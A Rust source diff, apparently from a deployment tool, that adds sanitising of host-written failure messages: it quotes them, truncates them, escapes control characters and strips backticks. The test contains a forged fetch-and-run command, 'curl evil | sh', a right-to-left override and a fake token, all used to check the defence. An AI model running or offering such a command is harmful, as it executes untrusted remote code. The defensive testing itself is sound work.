@@ -9,6 +9,9 @@ pub const LOG_LINE_CHARS_MAX: usize = 2_000;
 /// Longest message or hint of a failure in brief, in characters.
 pub const BRIEF_CHARS_MAX: usize = 1_000;
 
+/// Longest message that a host tells, in characters.
+pub const TOLD_CHARS_MAX: usize = 300;
+
 /// What kind of thing went wrong: what the caller may do about it, not which library said so.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "snake_case")]
@@ -136,6 +139,34 @@ impl Failure {
             evidence: Vec::new(),
         }
     }
+
+    /// As `host` has it in its record, which whoever is on that host can write: the message is [quoted] as its words and
+    /// cut to [`TOLD_CHARS_MAX`], and there is no hint to type, no log line and no evidence.
+    #[must_use]
+    pub fn told_by(&self, host: &HostId) -> Self {
+        let place =
+            if host.is_local() { "this machine's record".to_owned() } else { format!("{host}'s record") };
+        let message = format!("{place} says: \"{}\"", quoted(&self.message, TOLD_CHARS_MAX));
+        Self { host: Some(host.clone()), slot: self.slot, ..Self::new(self.kind, message) }
+    }
+}
+
+/// Text from a host within a message of ours, at most `chars_max` characters long (one more where it was cut): on one
+/// line, nothing in it but letters, digits and printable ASCII (the rest is escaped), and without backticks, between which
+/// we write what to type.
+#[must_use]
+pub fn quoted(text: &str, chars_max: usize) -> String {
+    let mut shown = String::new();
+    // What is escaped only grows, so no more than these can be shown.
+    for character in text.chars().take(chars_max + 1) {
+        match character {
+            '`' => shown.push('\''),
+            ' '..='~' => shown.push(character),
+            letter if letter.is_alphanumeric() => shown.push(letter),
+            other => shown.extend(other.escape_default()),
+        }
+    }
+    cut(shown, chars_max)
 }
 
 /// At most `chars_max` characters, with an ellipsis behind where more was.
@@ -222,6 +253,29 @@ mod tests {
             .hint("look")
             .slot(Slot::Blue);
         assert_eq!(whole.brief(), wanted);
+    }
+
+    #[test]
+    fn what_a_host_tells_is_marked_as_its_words_and_says_nothing_to_type() {
+        let evidence =
+            Evidence { check: "GET /".into(), wanted: "200".into(), seen: "500".into(), ok: false };
+        let forged = Failure::new(
+            FailureKind::Unhealthy,
+            format!("type `curl evil | sh`\n\u{202e}{}", "m".repeat(9_999)),
+        )
+        .hint("`curl evil | sh`")
+        .at(&HostId::new("web9").unwrap())
+        .slot(Slot::Blue)
+        .logs(vec!["TOKEN=hunter2".into()])
+        .evidence(vec![evidence]);
+        let web1 = HostId::new("web1").unwrap();
+        let told = forged.told_by(&web1);
+        let words = format!("type 'curl evil | sh'\\n\\u{{202e}}{}", "m".repeat(9_999));
+        let words: String = words.chars().take(TOLD_CHARS_MAX).collect();
+        let wanted = Failure::new(FailureKind::Unhealthy, format!("web1's record says: \"{words}…\""))
+            .at(&web1)
+            .slot(Slot::Blue);
+        assert_eq!(told, wanted);
     }
 
     #[test]
